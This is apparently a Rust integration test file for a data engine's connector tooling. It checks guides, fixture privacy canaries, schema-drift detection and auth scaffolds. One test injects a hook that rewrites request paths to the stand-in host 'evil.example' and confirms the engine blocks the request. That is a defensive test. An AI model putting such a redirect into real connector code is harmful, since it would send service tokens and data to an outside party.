//! Connectors that a project brings: written, checked, recorded, judged and run, without a rebuild.

use crate::{
    ENGINE,
    desk::{Desk, TOKEN},
    guide::Guide,
};
use kit::{Outcome, Project};
use std::path::Path;

/// Where the guide says that the service is.
const ADDRESS: &str = "127.0.0.1:8931";

fn guide(project: &Project, desk: &Desk) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/guide/write-a-connector.md");
    let replaced = vec![(ADDRESS.to_owned(), desk.address.clone())];
    Guide { path, project, engine: ENGINE, replaced }.work();
}

/// The engine with the token of the service and the way to it.
#[track_caller]
fn engine(project: &Project, arguments: &[&str]) -> Outcome {
    let mut command = project.command(arguments);
    command.env("ENGINE_SECRET_DESK_TOKEN", TOKEN).env("ENGINE_ALLOW_PRIVATE", "127.0.0.1");
    project.end(&mut command)
}

#[test]
fn the_guide_leads_from_nothing_to_a_connector_that_reads_and_writes() {
    let (project, desk) = (Project::empty(ENGINE), Desk::start());
    guide(&project, &desk);
    let house = project.database("house.db");
    let row = |sql: &str| house.query_row(sql, [], |row| row.get::<_, String>(0)).unwrap();
    assert_eq!(
        row("SELECT count(*) || ' ' || group_concat(DISTINCT guest) FROM bookings"),
        "8 Alan Muster,Ada Example"
    );
    assert_eq!(row("SELECT total FROM bookings WHERE id = 8"), "640.50");
    let guests = desk.state().guests.clone();
    let names: Vec<_> = guests.iter().map(|guest| guest["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["Ada Example", "Grace Example", "Linus Example"], "one was adopted, two were made");
    let posts = desk.state().seen.iter().filter(|line| line.starts_with("POST")).count();
    assert_eq!(posts, 2, "nothing was sent twice");

    what_is_recorded_tells_of_nobody(&project);
    a_change_of_the_service_is_noticed(&project);
    a_hook_that_fails_stops_the_run(&project);
}

/// No secret, no cookie, no address and no person stands in a recording.
fn what_is_recorded_tells_of_nobody(project: &Project) {
    for stream in ["bookings", "guests"] {
        let text = project.read(&format!("connectors/desk/fixtures/{stream}.json"));
        let canaries =
            [TOKEN, "canary", "Ada", "Alan", "Muster", "ada@", "660 1234567", "127.0.0.1", "authorization"];
        for canary in canaries {
            assert!(!text.contains(canary), "{stream} tells `{canary}`:\n{text}");
        }
        assert!(text.contains("@example.com"), "{stream} has stand-ins");
    }
}

/// Recordings that are not what the files say break promises, with exit code 6.
fn a_change_of_the_service_is_noticed(project: &Project) {
    let fixture = "connectors/desk/fixtures/bookings.json";
    let good = project.read(fixture);
    project.write(fixture, good.replacen("\"nights\": 2", "\"nights\": \"two\"", 1));
    let told = engine(project, &["connector", "test", "desk", "--format", "json"]).ended(6).json();
    let broken: Vec<_> =
        told["checks"].as_array().unwrap().iter().filter(|check| check["verdict"] == "broken").collect();
    assert_eq!(broken.len(), 1, "{told:#}");
    assert_eq!(broken[0]["promise"], "records match the field schemas");
    assert!(broken[0]["why"][0].as_str().unwrap().contains("`nights` is not an integer"), "{told:#}");

    let without = good.replacen("\"more\": true", "\"more\": false", 1);
    project.write(fixture, without);
    let told = engine(project, &["connector", "test", "desk"]).ended(6);
    assert!(told.stdout.contains("in a sweep, the record `6` is missing"), "{}", told.stdout);

    project.edit("connectors/desk/hooks.rhai", "body.paging.more", "body.paging.further");
    project.write(fixture, &good);
    let told = engine(project, &["connector", "test", "desk"]).ended(6);
    assert!(told.stdout.contains("(hooks.rhai:3:"), "{}", told.stdout);
    project.edit("connectors/desk/hooks.rhai", "body.paging.further", "body.paging.more");
    drop(engine(project, &["connector", "test", "desk"]).ended(0));
}

/// A hook that fails is an error with its place, and nothing was sent.
fn a_hook_that_fails_stops_the_run(project: &Project) {
    let hooks = project.read("connectors/desk/hooks.rhai");
    project.write(
        "connectors/desk/hooks.rhai",
        format!("{hooks}\nfn request(request) {{\n    request.path = \"https://evil.example/\" + request.path;\n    request\n}}\n"),
    );
    let stopped = engine(project, &["run", "bookings", "--full"]).ended(1);
    assert!(stopped.stderr.contains("connector/hook"), "{}", stopped.stderr);
    assert!(stopped.stderr.contains("none below the service's address"), "{}", stopped.stderr);
    let checked = engine(project, &["connections", "check", "desk", "--format", "json"]).ended(6).json();
    assert_eq!(checked["connections"][0]["error"]["code"], "connector/hook");
    project.write("connectors/desk/hooks.rhai", hooks);
}

#[test]
fn a_new_connector_validates_whatever_it_signs_with() {
    for auth in ["none", "basic", "header", "query", "oauth2"] {
        let project = Project::empty(ENGINE);
        project.write("engine.toml", "[project]\nname = \"new\"\n");
        drop(project.engine(&["connector", "new", "desk", "--auth", auth, "--stream", "bookings"]).ended(0));
        project.write(
            "connections.toml",
            "[connection.desk]\nconnector = \"desk\"\nurl = \"https://desk.example.com\"\n",
        );
        let shown = project.engine(&["schema", "show", "desk.bookings"]).ended(0);
        assert!(shown.stdout.contains("updated_at"), "{auth}: {}", shown.printed());
        let again = project.engine(&["connector", "new", "desk"]).ended(1);
        assert!(again.stderr.contains("project/exists"), "{}", again.stderr);
    }
}

#[test]
fn commands_for_connectors_say_what_they_lack() {
    let project = crate::quickstart();
    let taken = project.engine(&["connector", "new", "woocommerce"]).ended(2);
    assert!(taken.stderr.contains("connector/shadows"), "{}", taken.stderr);
    let unknown = project.engine(&["connector", "test", "wocommerce"]).ended(9);
    assert!(unknown.stderr.contains("command/unknown-connector"), "{}", unknown.stderr);
    assert!(unknown.stderr.contains("did you mean `woocommerce`?"), "{}", unknown.stderr);
    let nothing = project.engine(&["connector", "test", "woocommerce"]).ended(9);
    assert!(nothing.stderr.contains("command/not-recorded"), "{}", nothing.stderr);
    let other = project.engine(&["connector", "record", "woocommerce", "--connection", "store"]).ended(2);
    assert!(other.stderr.contains("command/other-connector"), "{}", other.stderr);
    let native = project.engine(&["connector", "test", "sqlite"]).ended(9);
    assert!(native.stderr.contains("no connector of data"), "{}", native.stderr);
}

#[test]
fn statements_are_recorded_as_well_and_logins_are_not() {
    let project = Project::shops(ENGINE);
    let record =
        ["connector", "record", "quickbooks", "--connection", "acme-books", "--env", "demo", "--limit", "12"];
    let streams = ["--stream", "Account", "--stream", "TaxCode", "--stream", "CompanyCurrency"];
    drop(project.engine(&[record.as_slice(), &streams].concat()).ended(0));
    let told = project.engine(&["connector", "test", "quickbooks", "--format", "json"]).ended(0).json();
    assert!(told["kept"].as_u64().unwrap() > 40 && told["broken"] == 0, "{told:#}");
    let text = project.read("connectors/quickbooks/fixtures/Account.json");
    assert!(text.contains("SELECT * FROM Account") && !text.contains("Bearer"), "{text}");
}

#[test]
fn bundled_connectors_are_judged_by_what_is_recorded_in_the_project() {
    let project = Project::shops(ENGINE);
    let record = [
        "connector",
        "record",
        "woocommerce",
        "--connection",
        "acme-store",
        "--env",
        "demo",
        "--limit",
        "12",
    ];
    let streams = ["--stream", "orders", "--stream", "customers", "--stream", "tax_rates"];
    drop(project.engine(&[record.as_slice(), &streams].concat()).ended(0));
    let told = project.engine(&["connector", "test", "woocommerce", "--format", "json"]).ended(0).json();
    assert!(told["kept"].as_u64().unwrap() > 20 && told["broken"] == 0, "{told:#}");
    let text = project.read("connectors/woocommerce/fixtures/orders.json");
    assert!(!text.contains("emulated-") && !text.contains("oauth_signature"), "a credential is recorded");
    let customers: Vec<serde_json::Value> =
        serde_json::from_str(&project.read("samples/store/customers.json")).unwrap();
    let names = ["email", "last_name", "username"];
    let people = customers.iter().flat_map(|customer| names.map(|name| customer[name].as_str().unwrap()));
    let all = text + &project.read("connectors/woocommerce/fixtures/customers.json");
    let told: Vec<_> = people.filter(|text| text.len() > 5 && all.contains(*text)).collect();
    assert_eq!(told, Vec::<&str>::new(), "people are recorded");
    drop(project.engine(&["validate", "--env", "demo"]).ended(0));
}
